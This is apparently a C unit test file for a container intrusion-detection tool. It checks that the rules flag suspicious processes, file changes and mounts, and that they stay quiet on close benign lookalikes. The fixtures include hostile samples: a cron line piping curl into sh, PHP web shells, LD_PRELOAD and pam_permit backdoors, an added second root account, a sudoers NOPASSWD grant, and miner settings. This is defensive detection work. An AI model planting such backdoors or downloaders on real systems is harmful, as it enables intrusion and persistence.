/* SPDX-License-Identifier: Apache-2.0 */
/* Each rule with what it must find, and with what is so close to it that it must not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "analyze/changed.h"
#include "analyze/rules.h"
#include "lib/base/json.h"
#include "lib/base/own.h"

/* "id severity" of each finding, sorted, a blank between. */
static void told(struct findings *all, char *out, size_t size)
{
	size_t len = 0;

	out[0] = '\0';
	findings_sort(all);
	for (size_t i = 0; i < all->count && len < size; i++)
		len += (size_t)snprintf(out + len, size - len, "%s%s %s", i ? ", " : "",
					all->items[i].rule->id,
					severity_word(all->items[i].severity));
}

static struct cJSON *parsed(const char *text)
{
	struct err e = { 0 };
	struct cJSON *doc = json_parse(text, strlen(text), &e);

	if (!doc)
		fail_msg("%s: %s", text, e.text);
	return doc;
}

#define FIRST                                                                                      \
	"{\"pid\":10,\"by\":[\"engine\",\"cgroup\",\"pidns\"],\"comm\":\"init\","                  \
	"\"ns_pids\":[10,1],\"namespaces\":{\"pid\":\"100\",\"mnt\":\"5\"},"                       \
	"\"uid\":{\"effective\":1000},\"capabilities\":{\"effective\":\"0000000000000000\","       \
	"\"bounding\":\"00000000a80425fb\"},\"cmdline\":[\"/init\"],"                              \
	"\"exe\":{\"path\":\"/init\"}}"
#define NS "\"by\":[\"cgroup\",\"pidns\"],\"ns_pids\":[11,2],\"namespaces\":{\"pid\":\"100\"}"
#define STDIO                                                                                      \
	"\"descriptors\":[{\"fd\":0,\"type\":\"socket\",\"inode\":\"77\"},"                        \
	"{\"fd\":1,\"type\":\"socket\",\"inode\":\"77\"}]"
#define REMOTE                                                                                     \
	"{\"protocol\":\"tcp\",\"state\":\"established\",\"inode\":\"77\","                        \
	"\"local\":{\"address\":\"10.0.0.2\",\"port\":40000},"                                     \
	"\"remote\":{\"address\":\"203.0.113.9\",\"port\":443},\"owners\":[{\"pid\":11}]}"
#define LOOPBACK                                                                                   \
	"{\"protocol\":\"tcp\",\"state\":\"established\",\"inode\":\"77\","                        \
	"\"local\":{\"address\":\"127.0.0.1\",\"port\":40000},"                                    \
	"\"remote\":{\"address\":\"127.0.0.1\",\"port\":4444},\"owners\":[{\"pid\":11}]}"
#define LISTENING(port)                                                                            \
	"{\"protocol\":\"tcp\",\"state\":\"listen\",\"inode\":\"77\",\"local\":{\"address\":"      \
	"\"0.0.0.0\",\"port\":" #port                                                              \
	"},\"remote\":{\"address\":\"0.0.0.0\",\"port\":0},\"owners\":[{\"pid\":11}]}"

static const struct {
	const char *process, *socket, *want;
} processes[] = {
	/* a shell whose commands come from outside, from itself, and an ordinary server */
	{ "{\"pid\":11,\"comm\":\"sh\",\"exe\":{\"path\":\"/bin/sh\"}," STDIO "," NS "}", REMOTE,
	  "process.shell-on-socket critical" },
	{ "{\"pid\":11,\"comm\":\"x\",\"exe\":{\"path\":\"/usr/bin/python3.11\"}," STDIO "," NS "}",
	  REMOTE, "process.shell-on-socket critical" },
	{ "{\"pid\":11,\"comm\":\"sh\",\"exe\":{\"path\":\"/bin/sh\"}," STDIO "," NS "}", LOOPBACK,
	  "process.shell-on-socket high" },
	{ "{\"pid\":11,\"comm\":\"in.ftpd\",\"exe\":{\"path\":\"/usr/sbin/in.ftpd\"}," STDIO "," NS
	  "}",
	  REMOTE, "" },
	{ "{\"pid\":11,\"comm\":\"sh\",\"exe\":{\"path\":\"/bin/sh\"}," STDIO "," NS "}",
	  LISTENING(80), "" },
	/* where the program is */
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/memfd:a\",\"deleted\":true,\"memfd\":"
	  "true}," NS "}",
	  NULL, "process.memfd-executable critical" },
	{ "{\"pid\":11,\"comm\":\"runc:[2:INIT]\",\"exe\":{\"path\":"
	  "\"/memfd:runc_cloned:/proc/self/exe\",\"deleted\":true,\"memfd\":true},"
	  "\"cmdline\":[\"runc\",\"init\"]," NS "}",
	  NULL, "process.memfd-executable info" },
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/usr/bin/a\",\"deleted\":true}," NS "}",
	  NULL, "process.deleted-executable high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/dev/shm/a\"}," NS "}", NULL,
	  "process.executable-location high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path_b64\":\"L3RtcC//\"}," NS "}", NULL,
	  "process.executable-location high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/opt/.cache/a\"}," NS "}", NULL,
	  "process.executable-location high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/tmpfoo/a\"}," NS "}", NULL, "" },
	/* names of kernel threads */
	{ "{\"pid\":11,\"comm\":\"x\",\"cmdline\":[\"[kworker/0:1]\"],\"exe\":{\"path\":\"/a\"}," NS
	  "}",
	  NULL, "process.kernel-thread-name high" },
	{ "{\"pid\":11,\"comm\":\"ksoftirqd/0\",\"exe\":{\"path\":\"/a\"}," NS "}", NULL,
	  "process.kernel-thread-name high" },
	{ "{\"pid\":11,\"comm\":\"postgres\",\"cmdline\":[\"postgres: writer \"],\"exe\":{\"path\":"
	  "\"/usr/lib/postgresql/15/bin/postgres\"}," NS "}",
	  NULL, "" },
	/* memory */
	{ "{\"pid\":11,\"comm\":\"a\",\"exe\":{\"path\":\"/a\"},\"maps\":{\"files\":[],"
	  "\"anonymous_exec_bytes\":\"4096\"}," NS "}",
	  NULL, "process.injected-code medium" },
	{ "{\"pid\":11,\"comm\":\"java\",\"exe\":{\"path\":\"/a\"},\"maps\":{\"files\":[{\"path\":"
	  "\"/usr/lib/jvm/libjvm.so\"}],\"anonymous_exec_bytes\":\"4096\"}," NS "}",
	  NULL, "process.injected-code info" },
	/* environment */
	{ "{\"pid\":11,\"comm\":\"a\",\"environ\":[\"LD_PRELOAD=/tmp/x.so\"]," NS "}", NULL,
	  "process.preload high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"environ\":[{\"text_b64\":\"TERfUFJFTE9BRD3/\"}]," NS "}",
	  NULL, "process.preload high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"environ\":[\"LD_PRELOAD=/usr/lib/libjemalloc.so.2\"]," NS
	  "}",
	  NULL, "process.preload low" },
	{ "{\"pid\":11,\"comm\":\"a\",\"environ\":[\"LD_AUDIT=/of/the/image.so\"]," NS "}", NULL,
	  "process.preload info" },
	{ "{\"pid\":11,\"comm\":\"a\",\"environ\":[\"LD_PRELOAD=\",\"XLD_PRELOAD=/a\"]," NS "}",
	  NULL, "" },
	{ "{\"pid\":11,\"comm\":\"bash\",\"environ\":[\"HISTFILE=/dev/null\"]," NS "}", NULL,
	  "process.no-history medium" },
	{ "{\"pid\":11,\"comm\":\"nginx\",\"environ\":[\"HISTFILE=/dev/null\"]," NS "}", NULL, "" },
	/* more than the container was given */
	{ "{\"pid\":11,\"comm\":\"a\",\"capabilities\":{\"effective\":\"000001ffffffffff\","
	  "\"bounding\":\"000001ffffffffff\"}," NS "}",
	  NULL, "process.more-capabilities high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"capabilities\":{\"effective\":\"0000000000000001\","
	  "\"bounding\":\"00000000a80425fb\"}," NS "}",
	  NULL, "" },
	{ "{\"pid\":11,\"comm\":\"a\",\"uid\":{\"effective\":0}," NS "}", NULL,
	  "process.escalated high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"by\":[\"pidns\"],\"ns_pids\":[11,2],\"namespaces\":{"
	  "\"pid\":"
	  "\"100\"}}",
	  NULL, "process.foreign high" },
	{ "{\"pid\":11,\"comm\":\"a\",\"by\":[\"cgroup\"],\"ns_pids\":[11],\"namespaces\":{\"pid\":"
	  "\"1\"}}",
	  NULL, "process.foreign high" },
	/* a sandbox of a browser */
	{ "{\"pid\":11,\"comm\":\"a\",\"by\":[\"cgroup\",\"child\"],\"ns_pids\":[11,2,1],"
	  "\"namespaces\":{\"pid\":\"200\"}}",
	  NULL, "" },
	/* somebody at a terminal */
	{ "{\"pid\":11,\"comm\":\"bash\",\"descriptors\":[{\"fd\":0,\"type\":\"char\",\"link\":"
	  "\"/dev/pts/0\"}]," NS "}",
	  NULL, "process.interactive medium" },
	/* mining */
	{ "{\"pid\":11,\"comm\":\"a\",\"cmdline\":[\"./a\",\"-o\",\"stratum+tcp://pool:3333\"]," NS
	  "}",
	  NULL, "process.miner high" },
	{ "{\"pid\":11,\"comm\":\"xmrig\"," NS "}", NULL, "process.miner high" },
	/* sockets */
	{ "{\"pid\":11,\"comm\":\"a\"," NS "}", LISTENING(4444),
	  "socket.unexpected-listener info" },
	{ "{\"pid\":11,\"comm\":\"a\"," NS "}",
	  "{\"protocol\":\"packet\",\"inode\":\"77\",\"owners\":[{\"pid\":11}]}",
	  "process.raw-socket high" },
	{ "{\"pid\":11,\"comm\":\"tcpdump\"," NS "}",
	  "{\"protocol\":\"packet\",\"inode\":\"77\",\"owners\":[{\"pid\":11}]}",
	  "process.raw-socket info" },
};

static void processes_are_judged(void **state)
{
	uint16_t ports[] = { 80 };
	char image_preload[] = "LD_AUDIT=/of/the/image.so";
	char *preload[] = { image_preload };
	const struct container container = { 0 };
	const struct configured c = { .container = &container,
				      .ports = ports,
				      .port_count = 1,
				      .preload = preload,
				      .preload_count = 1 };

	(void)state;
	for (size_t i = 0; i < sizeof(processes) / sizeof(processes[0]); i++) {
		AUTO(suspects_release) struct suspects s = { 0 };
		AUTO(findings_release) struct findings found = { 0 };
		AUTO(json_freep) struct cJSON *first = parsed(FIRST);
		AUTO(json_freep) struct cJSON *process = parsed(processes[i].process);
		AUTO(json_freep) struct cJSON *socket = NULL;
		struct err e = { 0 };
		char text[500];

		assert_int_equal(suspects_add(&s, process, &e), 0);
		assert_int_equal(suspects_add(&s, first, &e), 0);
		if (processes[i].socket) {
			socket = parsed(processes[i].socket);
			assert_int_equal(suspects_add_socket(&s, socket, &e), 0);
		}
		suspects_sort(&s);
		rules_processes(&s, &c, &found);
		rules_sockets(&s, &c, &found);
		told(&found, text, sizeof(text));
		if (strcmp(text, processes[i].want) != 0)
			fail_msg("%s\n gives '%s', not '%s'", processes[i].process, text,
				 processes[i].want);
	}
}

#define ELF                                                                                        \
	"\x7f"                                                                                     \
	"ELF\x02\x01\x01"
#define AFTER "\"ctime\":\"2026-05-01T00:00:00.000000000Z\","

static const struct {
	const char *row, *head, *want;
} files[] = {
	/* rights */
	{ "\"path\":\"usr/bin/x\",\"change\":\"A\",\"mode\":\"4755\"", "text",
	  "file.setuid-added high" },
	{ "\"path\":\"usr/bin/x\",\"change\":\"M\",\"mode\":\"4755\",\"differs\":[\"mode\"]", NULL,
	  "file.setuid-added high" },
	{ "\"path\":\"usr/bin/x\",\"change\":\"M\",\"mode\":\"4755\",\"differs\":[\"mtime\"]", NULL,
	  "" },
	{ "\"path\":\"srv/x\",\"change\":\"A\",\"mode\":\"4644\"", "text", "" },
	{ "\"path\":\"srv/"
	  "x\",\"change\":\"A\",\"mode\":\"0755\",\"xattrs\":{\"security.capability\":"
	  "\"AAAA\"}",
	  "text", "file.capability-added high" },
	/* programs */
	{ "\"path\":\"usr/bin/x\",\"change\":\"A\"", ELF, "file.dropped-program high" },
	{ "\"path\":\"srv/x\",\"change\":\"A\"", "#!/bin/sh\n", "file.dropped-program medium" },
	{ "\"path\":\"srv/__pycache__/x\",\"change\":\"A\"", ELF, "file.dropped-program info" },
	{ "\"path\":\"srv/x\",\"change\":\"A\"", "#! nothing", "" },
	{ "\"path\":\"usr/bin/ls\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]," AFTER
	  "\"mtime\":\"2026-05-01T00:00:00.000000000Z\"",
	  ELF, "file.replaced-program critical" },
	{ "\"path\":\"usr/bin/ls\",\"change\":\"M\",\"differs\":[\"content\"]," AFTER
	  "\"mtime\":\"2020-05-01T00:00:00.000000000Z\"",
	  ELF, "file.replaced-program critical, file.timestomped high" },
	{ "\"path\":\"usr/bin/ls\",\"change\":\"M\",\"differs\":[\"mtime\"]", ELF, "" },
	{ "\"path\":\"srv/x\",\"change\":\"A\"", ELF "  UPX!",
	  "file.dropped-program medium, file.packed medium" },
	/* ways in */
	{ "\"path\":\"etc/ld.so.preload\",\"change\":\"A\"", "/lib/x.so\n",
	  "file.preload critical" },
	{ "\"path\":\"etc/ld.so.preload\",\"change\":\"A\",\"size\":\"0\"", NULL, "" },
	{ "\"path\":\"etc/cron.d/x\",\"change\":\"A\"", "* * * * * root /bin/true\n",
	  "file.persistence medium" },
	{ "\"path\":\"etc/cron.d/x\",\"change\":\"A\"", "* * * * * root curl http://x | sh\n",
	  "file.persistence high" },
	{ "\"path\":\"usr/lib/python3/dist-packages/x.pth\",\"change\":\"A\"", "import os\n",
	  "file.persistence medium" },
	{ "\"path\":\"etc/systemd/system/x.wants/y.service\",\"change\":\"A\",\"type\":\"symlink\"",
	  NULL, "file.persistence medium" },
	{ "\"path\":\"root/.ssh/authorized_keys\",\"change\":\"A\"", "ssh-ed25519 AAAA\n",
	  "file.authorized-keys high" },
	{ "\"path\":\"etc/ssh/sshd_config\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "PermitRootLogin yes\n", "file.sshd-config high" },
	{ "\"path\":\"etc/passwd\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "root:x:0:0::/root:/bin/sh\nme:x:1000:1000::/:/bin/sh\n", "file.accounts info" },
	{ "\"path\":\"etc/passwd\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "root:x:0:0::/root:/bin/sh\ntoor:x:00:0::/:/bin/sh\n",
	  "file.second-root critical, file.accounts info" },
	{ "\"path\":\"etc/shadow\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "root:*:1:::::\nme::1:::::\n", "file.accounts high" },
	{ "\"path\":\"etc/sudoers.d/me\",\"change\":\"A\"", "me ALL=(ALL) NOPASSWD: ALL\n",
	  "file.sudoers high" },
	{ "\"path\":\"etc/pam.d/sshd\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "auth sufficient pam_permit.so\n", "file.pam critical" },
	{ "\"path\":\"etc/pam.d/common-auth\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]",
	  "auth required pam_permit.so\n", "file.pam medium" },
	{ "\"path\":\"lib/x86_64-linux-gnu/security/pam_unix.so\",\"change\":\"M\",\"differs\":"
	  "[\"content\",\"mtime\"]",
	  "", "file.pam critical" },
	/* hiding */
	{ "\"path\":\"tmp/...\",\"change\":\"A\",\"type\":\"dir\"", NULL, "file.hidden high" },
	{ "\"path\":\"srv/a \",\"change\":\"A\"", "text", "file.hidden high" },
	{ "\"path\":\"srv/a\\u200bb\",\"change\":\"A\"", "text", "file.hidden high" },
	{ "\"path\":\"tmp/.x\",\"change\":\"A\"", "text", "file.hidden medium" },
	{ "\"path\":\"tmp/.X11-unix\",\"change\":\"A\",\"type\":\"dir\"", NULL, "" },
	{ "\"path\":\"root/.profile.d\",\"change\":\"A\"", "text", "" },
	{ "\"path\":\"dev/x\",\"change\":\"A\"", "text", "file.hidden medium" },
	{ "\"path\":\"usr/bin/x\",\"change\":\"M\",\"differs\":[\"content\",\"mtime\"]," AFTER
	  "\"mtime\":\"2020-05-01T00:00:00.000000000Z\"",
	  "text", "file.timestomped medium" },
	{ "\"path\":\"var/log/wtmp\",\"change\":\"D\"", NULL, "file.log-wiped medium" },
	{ "\"path\":\"var/log/wtmp\",\"change\":\"M\",\"size\":\"0\",\"differs\":[\"content\"]",
	  NULL, "file.log-wiped medium" },
	{ "\"path\":\"root/.bash_history\",\"change\":\"A\",\"type\":\"symlink\",\"link\":\"/dev/"
	  "null\"",
	  NULL, "file.history-wiped medium" },
	{ "\"path\":\"root/.bash_history\",\"change\":\"A\"", "ls\n", "" },
	/* pages and mines */
	{ "\"path\":\"var/www/x.php\",\"change\":\"A\"", "<?php system($_GET['c']); ?>",
	  "file.webshell high" },
	{ "\"path\":\"var/www/x.php\",\"change\":\"A\"", "<?php eval(base64_decode('aa')); ?>",
	  "file.webshell medium" },
	{ "\"path\":\"var/www/x.php\",\"change\":\"A\"", "<?php echo $_GET['c']; ?>", "" },
	{ "\"path\":\"srv/config.json\",\"change\":\"A\"",
	  "{\"pools\":[\"stratum+tcp://x\"],\"donate-level\":1}", "file.miner high" },
	{ "\"path\":\"srv/rules.yar\",\"change\":\"A\"", "stratum+tcp://", "" },
};

static void files_are_judged(void **state)
{
	static const struct suspects nobody;
	const struct file_context c = { .created = "2026-04-01T00:00:00Z", .suspects = &nobody };

	(void)state;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		AUTO(changed_release) struct changed f = { 0 };
		AUTO(findings_release) struct findings found = { 0 };
		AUTO(str_release) struct str row = STR_INIT(10000);
		AUTO(json_freep) struct cJSON *doc = NULL;
		struct err e = { 0 };
		char text[500];

		changed_init(&f);
		/* What a row does not say is an ordinary file. */
		str_addf(&row, "{%s%s%s%s}", files[i].row,
			 strstr(files[i].row, "\"type\"") ? "" : ",\"type\":\"file\"",
			 strstr(files[i].row, "\"size\"") ? "" : ",\"size\":\"9\"",
			 strstr(files[i].row, "\"mode\"") ? "" : ",\"mode\":\"0755\"");
		doc = parsed(row.buf);
		assert_int_equal(changed_read(&f, doc, NULL, &e), 0);
		f.head = files[i].head;
		f.head_len = files[i].head ? strlen(files[i].head) : 0;
		rules_access(&f, &c, &found);
		rules_program(&f, &c, &found);
		rules_hiding(&f, &c, &found);
		told(&found, text, sizeof(text));
		if (strcmp(text, files[i].want) != 0)
			fail_msg("%s\n gives '%s', not '%s'", row.buf, text, files[i].want);
	}
}

static const struct {
	struct mount_fact mount;
	const char *want;
} mounts[] = {
	{ { "/", "overlay", "overlay", "/", "rw" }, "" },
	{ { "/etc/hosts", "ext4", "/dev/vda", "/var/lib/x/hosts", "rw" }, "" },
	{ { "/data/deep", "ext4", "/dev/vda", "/srv", "rw" }, "" },
	{ { "/database", "ext4", "/dev/vda", "/srv", "rw" }, "mount.unconfigured high" },
	{ { "/mnt", "ext4", "/dev/vda", "/", "rw" }, "mount.unconfigured high" },
	{ { "/mnt", "tmpfs", "tmpfs", "/", "rw" }, "mount.unconfigured medium" },
	{ { "/host", "proc", "proc", "/", "rw" }, "mount.unconfigured high" },
	{ { "/dev/null", "devtmpfs", "udev", "/null", "rw" }, "" },
	{ { "/data/docker.sock", "tmpfs", "tmpfs", "/docker.sock", "rw" },
	  "mount.engine-socket high" },
};

static void mounts_are_judged(void **state)
{
	char data[] = "/data/";
	struct container_mount mount = { .destination = data };
	const struct container container = { .mounts = &mount, .mount_count = 1 };
	const struct configured c = { .container = &container };

	(void)state;
	for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		AUTO(findings_release) struct findings found = { 0 };
		char text[200];

		rules_mount(&mounts[i].mount, &c, &found);
		told(&found, text, sizeof(text));
		if (strcmp(text, mounts[i].want) != 0)
			fail_msg("%s gives '%s', not '%s'", mounts[i].mount.point, text,
				 mounts[i].want);
	}
}

static void no_flood_hides_another_rule(void **state)
{
	AUTO(findings_release) struct findings found = { 0 };
	char object[32];

	(void)state;
	for (unsigned i = 0; i < 3 * FINDINGS_MAX; i++) {
		(void)snprintf(object, sizeof(object), "/tmp/.%u", i);
		(void)findings_add(&found, RULE_FILE_HIDDEN, object);
	}
	(void)findings_add(&found, RULE_FILE_PRELOAD, "/etc/ld.so.preload");
	assert_int_equal(found.count, FINDINGS_MAX + 1);
	assert_int_equal(found.all[RULE_FILE_HIDDEN], 3 * FINDINGS_MAX);
	findings_sort(&found);
	assert_string_equal(found.items[0].rule->id, "file.preload");
}

static void every_rule_has_its_words(void **state)
{
	(void)state;
	for (unsigned i = 0; i < RULE_COUNT; i++) {
		const struct rule *r = rule_of((enum rule_id)i);

		assert_non_null(r->id);
		assert_non_null(strchr(r->id, '.'));
		assert_true(strlen(r->title) > 0 && strlen(r->why) > 0 && strlen(r->benign) > 0);
		for (unsigned j = 0; j < i; j++)
			assert_string_not_equal(r->id, rule_of((enum rule_id)j)->id);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(processes_are_judged),
		cmocka_unit_test(files_are_judged),
		cmocka_unit_test(mounts_are_judged),
		cmocka_unit_test(no_flood_hides_another_rule),
		cmocka_unit_test(every_rule_has_its_words),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
